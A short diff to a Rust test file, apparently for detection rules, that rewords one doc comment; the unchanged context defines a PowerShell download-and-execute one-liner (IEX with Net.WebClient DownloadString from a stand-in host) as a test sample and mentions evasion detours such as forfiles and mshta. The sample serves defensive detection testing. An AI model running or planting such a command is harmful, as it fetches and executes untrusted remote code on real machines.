@@ -9,7 +9,7 @@ use schtag_tests::filter::{self, Filter};
 use schtag_tests::samples::{Sample, Shape, escape_xml};
 use schtag_tests::table;
 
-/// What the encoded command says.
+/// The script in the encoded command.
 const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')";
 
 /// The rules that every rewriting must match. A detour (forfiles, mshta, ...) may add its own.
